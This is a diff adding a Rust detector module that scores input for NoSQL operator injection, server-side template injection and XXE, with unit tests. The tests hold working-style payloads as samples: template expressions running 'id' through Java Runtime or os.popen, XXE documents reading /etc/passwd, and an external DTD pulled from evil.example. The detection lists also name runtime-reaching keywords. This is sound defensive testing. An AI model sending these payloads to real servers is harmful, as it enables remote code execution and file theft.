@@ -1,0 +1,299 @@
+//! The smaller attack classes, each recognised by its markers: NoSQL operator injection,
+//! server-side template injection, and XML external entities.
+//!
+//! - NoSQL: query operators where data belongs: `$`-keys in JSON (`{"password": {"$ne":
+//!   ""}}`), `param[$ne]=` in query strings, code-running operators (`$where`,
+//!   `$function`).
+//! - Templates: an expression marker (`{{ }}`, `${ }`, `#{ }`, `*{ }`, `<%= %>`, `{% %}`)
+//!   whose content computes or reaches into the runtime (arithmetic, dunder attributes,
+//!   `T(java.lang.Runtime)`); a marker around a plain name weighs little.
+//! - XXE: a document type that declares an external entity, or XInclude.
+//!
+//! Each is one forward pass over the value: linear.
+
+use crate::sql::Hit;
+
+/// MongoDB-style operators that turn a value into a condition.
+const NOSQL_OPERATORS: &[&str] = &[
+    "$ne",
+    "$eq",
+    "$gt",
+    "$gte",
+    "$lt",
+    "$lte",
+    "$in",
+    "$nin",
+    "$regex",
+    "$exists",
+    "$or",
+    "$and",
+    "$not",
+    "$nor",
+    "$type",
+    "$size",
+    "$all",
+    "$elemmatch",
+    "$options",
+];
+/// Operators that run code on the server.
+const NOSQL_CODE: &[&str] = &["$where", "$function", "$accumulator", "$expr", "$eval"];
+
+/// A JSON object key (or a bracketed query key) used as a NoSQL operator.
+pub fn nosql_key(key: &str) -> Vec<Hit> {
+    let lower = key.to_ascii_lowercase();
+    if NOSQL_CODE.contains(&lower.as_str()) {
+        vec![Hit {
+            rule: "nosql.code_operator",
+            score: 5,
+        }]
+    } else if NOSQL_OPERATORS.contains(&lower.as_str()) {
+        vec![Hit {
+            rule: "nosql.operator_key",
+            score: 5,
+        }]
+    } else {
+        Vec::new()
+    }
+}
+
+/// NoSQL operators written inside a value: `user[$ne]=x`, `{"$gt": ""}`, `$where`.
+pub fn nosql(value: &str) -> Vec<Hit> {
+    let lower = value.to_ascii_lowercase();
+    let mut hits = Vec::new();
+    let mut from = 0;
+    while let Some(p) = lower[from..].find('$') {
+        let at = from + p;
+        from = at + 1;
+        let len = lower[at + 1..]
+            .bytes()
+            .take_while(u8::is_ascii_alphabetic)
+            .count();
+        let word = &lower[at..at + 1 + len];
+        let before = lower[..at].bytes().next_back();
+        let bracketed = before == Some(b'[') && lower.as_bytes().get(at + 1 + len) == Some(&b']');
+        let quoted = before == Some(b'"') && lower.as_bytes().get(at + 1 + len) == Some(&b'"');
+        if NOSQL_CODE.contains(&word) && (bracketed || quoted) {
+            hits.push(Hit {
+                rule: "nosql.code_operator",
+                score: 5,
+            });
+            break;
+        }
+        if NOSQL_OPERATORS.contains(&word) && (bracketed || quoted) {
+            hits.push(Hit {
+                rule: "nosql.operator_key",
+                score: 5,
+            });
+            break;
+        }
+    }
+    hits
+}
+
+/// Names that reach into a template engine's runtime.
+const RUNTIME: &[&str] = &[
+    "__class__",
+    "__globals__",
+    "__builtins__",
+    "__init__",
+    "__subclasses__",
+    "__mro__",
+    "__import__",
+    "config",
+    "self.",
+    "request.",
+    "runtime",
+    "getruntime",
+    "popen",
+    "exec(",
+    "system(",
+    "t(java",
+    "lipsum",
+    "cycler",
+    "joiner",
+    "namespace",
+    "process.",
+    "require(",
+    "constructor",
+    "getclass",
+    "forname",
+    "freemarker",
+    "velocity",
+];
+
+/// Server-side template injection markers.
+pub fn ssti(value: &str) -> Vec<Hit> {
+    let lower = value.to_ascii_lowercase();
+    let mut best = 0;
+    for (open, close) in [
+        ("{{", "}}"),
+        ("${", "}"),
+        ("#{", "}"),
+        ("*{", "}"),
+        ("<%=", "%>"),
+        ("{%", "%}"),
+        ("@(", ")"),
+    ] {
+        let mut from = 0;
+        while let Some(p) = lower[from..].find(open) {
+            let start = from + p + open.len();
+            from = start;
+            // At most 256 bytes of expression are looked at.
+            let window = &lower[start..(start + 256).min(lower.len())];
+            let window = &window[..floor_boundary(window, window.len())];
+            let Some(end) = window.find(close) else {
+                continue;
+            };
+            let content = window[..end].trim();
+            let computes = content.as_bytes().windows(3).any(|w| {
+                w[0].is_ascii_digit()
+                    && matches!(w[1], b'*' | b'+' | b'-' | b'/')
+                    && w[2].is_ascii_digit()
+            });
+            let score = if computes || RUNTIME.iter().any(|r| content.contains(r)) {
+                5
+            } else if !content.is_empty() && open != "${" && open != "@(" {
+                1
+            } else {
+                0
+            };
+            best = best.max(score);
+        }
+    }
+    if lower.contains("<#assign") || lower.contains("#set(") || lower.contains("<#include") {
+        best = best.max(4);
+    }
+    match best {
+        0 => Vec::new(),
+        score => vec![Hit {
+            rule: "ssti.expression",
+            score,
+        }],
+    }
+}
+
+fn floor_boundary(s: &str, mut at: usize) -> usize {
+    while at > 0 && !s.is_char_boundary(at) {
+        at -= 1;
+    }
+    at
+}
+
+/// XML external entities and XInclude.
+pub fn xxe(value: &str) -> Vec<Hit> {
+    let lower = value.to_ascii_lowercase();
+    let mut hits = Vec::new();
+    if let Some(p) = lower.find("<!entity") {
+        let rest = &lower[p..];
+        let external = rest.contains(" system") || rest.contains(" public");
+        hits.push(Hit {
+            rule: if external {
+                "xxe.external_entity"
+            } else {
+                "xxe.entity"
+            },
+            score: if external { 5 } else { 3 },
+        });
+    } else if lower.contains("<!doctype")
+        && (lower.contains(" system") || lower.contains(" public"))
+        && lower.contains("://")
+    {
+        hits.push(Hit {
+            rule: "xxe.external_dtd",
+            score: 4,
+        });
+    }
+    if lower.contains("xi:include") || lower.contains("xmlns:xi=") {
+        hits.push(Hit {
+            rule: "xxe.xinclude",
+            score: 4,
+        });
+    }
+    hits
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn total(hits: Vec<Hit>) -> u32 {
+        hits.iter().map(|h| h.score).sum()
+    }
+
+    #[test]
+    fn nosql_operators_where_data_belongs() {
+        assert_eq!(total(nosql_key("$ne")), 5);
+        assert_eq!(total(nosql_key("$where")), 5);
+        assert_eq!(total(nosql_key("price")), 0);
+        assert_eq!(total(nosql_key("$")), 0);
+        for attack in [
+            "username[$ne]=x",
+            "{\"password\": {\"$gt\": \"\"}}",
+            "login[$regex]=^adm",
+            "{\"$where\": \"sleep(5000)\"}",
+        ] {
+            assert!(total(nosql(attack)) >= 5, "{attack:?}");
+        }
+        for text in [
+            "costs $5",
+            "$ne is an operator name",
+            "pay in $USD",
+            "[$]",
+            "\"$100\"",
+        ] {
+            assert!(total(nosql(text)) < 5, "{text:?}");
+        }
+    }
+
+    #[test]
+    fn template_expressions_that_compute_or_reach_the_runtime() {
+        for attack in [
+            "{{7*7}}",
+            "${7*7}",
+            "#{7*7}",
+            "<%= 7*7 %>",
+            "{{''.__class__.__mro__[1].__subclasses__()}}",
+            "{{config.items()}}",
+            "${T(java.lang.Runtime).getRuntime().exec('id')}",
+            "{% import os %}{{ os.popen('id').read() }}",
+            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>",
+        ] {
+            assert!(total(ssti(attack)) >= 4, "{attack:?}: {:?}", ssti(attack));
+        }
+        for text in [
+            "Hello {{name}}",
+            "costs ${price}",
+            "a { b } c",
+            "use {{ and }} in docs",
+            "x = 7*7",
+        ] {
+            assert!(total(ssti(text)) < 4, "{text:?}: {:?}", ssti(text));
+        }
+    }
+
+    #[test]
+    fn external_entities_and_xinclude() {
+        for attack in [
+            "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
+            "<!DOCTYPE r [<!ENTITY % p PUBLIC \"x\" \"http://evil.example/p.dtd\"> %p;]>",
+            "<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"/etc/passwd\"/></r>",
+        ] {
+            assert!(total(xxe(attack)) >= 4, "{attack:?}");
+        }
+        for text in [
+            "<r><a>1</a></r>",
+            "<!DOCTYPE html><html></html>",
+            "the entity system",
+        ] {
+            assert!(total(xxe(text)) < 4, "{text:?}");
+        }
+    }
+
+    #[test]
+    fn time_is_linear_in_the_input() {
+        for unit in ["{{", "${", "$ne", "[$ne", "<!entity", "<%="] {
+            let long = unit.repeat(50_000);
+            let _ = (nosql(&long), ssti(&long), xxe(&long));
+        }
+    }
+}
